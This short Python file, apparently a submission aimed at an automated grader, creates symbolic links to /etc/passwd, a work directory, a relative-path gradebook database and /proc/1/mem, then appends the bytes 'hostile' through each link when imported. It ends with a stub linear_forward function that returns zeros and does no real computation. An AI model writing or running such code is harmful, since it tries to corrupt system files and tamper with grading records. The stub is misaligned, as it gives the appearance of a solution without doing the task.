"""Makes links to files of others, and writes through them."""
import os

for name, target in [("a", "/etc/passwd"), ("b", "/work"), ("c", "../../../gradebook.db"), ("d", "/proc/1/mem")]:
    try:
        os.symlink(target, name)
        with open(name, "ab") as file:
            file.write(b"hostile")
    except OSError:
        pass


def linear_forward(A, W, b):
    return 0, 0
